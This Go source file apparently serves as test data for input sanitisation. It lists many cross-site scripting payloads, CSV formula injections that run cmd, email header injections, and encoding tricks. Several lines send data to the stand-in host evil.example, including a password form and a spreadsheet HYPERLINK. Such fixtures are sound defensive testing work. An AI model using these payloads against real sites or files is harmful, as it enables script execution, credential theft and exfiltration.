package mischief

// Payload is something that people who mean harm write into a field.
type Payload struct {
	Kind string // what it hopes to be taken for
	Text string
}

// Payloads are all of them, at least one of each trick that has worked
// somewhere. Each that runs calls alert or asks evil.example for something.
func Payloads() []Payload {
	var all []Payload
	for _, kind := range table() {
		for _, text := range kind.texts {
			all = append(all, Payload{kind.name, text})
		}
	}
	return all
}

type kind struct {
	name  string
	texts []string
}

// table is the payloads by what they hope to be taken for.
func table() []kind {
	return []kind{
		{"a script", []string{
			`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=//evil.example></script>`, `<script/x>alert(1)</script>`,
			`<script type=module>import('//evil.example')</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<template><script>alert(1)</script></template>`,
		}},
		{"an event", []string{
			`<img src=x onerror=alert(1)>`, `<img/src/onerror=alert(1)>`, "<img src=x onerror=`alert(1)`>", `<details open ontoggle=alert(1)>`,
			`<body onload=alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>`,
			`<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<div popover id=x onbeforetoggle=alert(1)>`,
		}},
		{"a drawing", []string{
			`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
			`<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1)/></svg>#x">`,
			`<math href=javascript:alert(1)>x</math>`,
		}},
		{"a link", []string{
			`<a href=javascript:alert(1)>x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#9;script:alert(1)">x</a>`, `<a href="&#1;javascript:alert(1)">x</a>`,
			`<a href=data:text/html,<script>alert(1)</script>>x</a>`, `javascript:alert(1)`, `java	script:alert(1)`, `data:text/html,<script>alert(1)</script>`, `//evil.example/%2e%2e`,
		}},
		{"another page", []string{
			`<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`,
			`<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example>`, `<link rel=stylesheet href=//evil.example>`, `<style>@import'//evil.example'</style>`,
			`<div style="background:url(//evil.example)">`,
		}},
		{"a form", []string{
			`<form action=//evil.example><input name=password>`, `<button formaction=javascript:alert(1)>x`, `<form id=main><input name=attributes><input name=parentNode>`,
		}},
		{"the end of what it stands in", []string{
			`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" autofocus onfocus=alert(1) x="`,
			"` onmouseover=alert(1) x=`", `</textarea><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</option></select><script>alert(1)</script>`,
			`</script><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `\"><script>alert(1)</script>`, `');alert(1);//`,
		}},
		{"what a parser mends", []string{
			`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
			`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`,
			`<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<img src=x onerror="alert(1)"//`, `<<script>alert(1)//<</script>`,
			`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		}},
		{"what is decoded twice", []string{
			`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&amp;lt;script&amp;gt;alert(1)`, `%3Cscript%3Ealert(1)%3C/script%3E`,
			`\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cscript\x3ealert(1)\x3c/script\x3e`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, "\ufe64script\ufe65alert(1)\ufe64/script\ufe65", "\uff1cscript\uff1ealert(1)",
		}},
		{"a template", []string{
			`{{.Call.Person}}`, `{{template "frame"}}`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<%= alert(1) %>`, `{a|<img src=x onerror=alert(1)>}`,
			`{b}<img src=x onerror=alert(1)>{c}`, `__f__function(){alert(1)}__f__`,
		}},
		{"a formula", []string{
			`=HYPERLINK("https://evil.example?"&A1,"x")`, `=cmd|'/c calc'!A1`, `+1+cmd|'/c calc'!A1`, `-1+cmd|'/c calc'!A1`, `@SUM(1)*cmd|'/c calc'!A1`, `;=1+1`, `",=1+1`,
		}},
		{"Markdown", []string{
			`[x](javascript:alert(1))`, `[x](data:text/html,<script>alert(1)</script>)`, `![x](https://evil.example/x.png)`, `![x"onerror="alert(1)](x)`,
			`<javascript:alert(1)>`, "[x]\n\n[x]: javascript:alert(1)", `[a](<javascript:alert(1)>"x")`, "```html\n<script>alert(1)</script>\n```", `<https://evil.example/"onclick="alert(1)>`,
		}},
		{"the head of a letter", []string{
			"x\r\nBcc: all@evil.example", "x\nContent-Type: text/html\n\n<script>alert(1)</script>", "x\r\nATTENDEE:mailto:all@evil.example", `x" <all@evil.example>`,
		}},
		{"what cannot be seen", []string{
			"\u202egpj.exe <script>alert(1)</script>", "<scr\u200bipt>alert(1)</script>", "<img src=x onerror\u00a0=alert(1)>", "<script\u2028>alert(1)</script>", "\u2066<script>alert(1)</script>\u2069",
			"\ufeff<script>alert(1)</script>", "<s\u0327cript>alert(1)</script>", "\U000e0001<script>alert(1)</script>",
		}},
	}
}

// Broken are texts that are none: what a text field must refuse, or take
// without what is broken. PostgreSQL keeps no such text.
func Broken() []Payload {
	return []Payload{
		{"a null byte", "<scr\x00ipt>alert(1)</script>"}, {"a null byte", "x\x00"},
		{"no UTF-8", "\xc0\xbcscript\xc0\xbealert(1)"}, {"no UTF-8", "x\xff<script>alert(1)</script>"},
	}
}
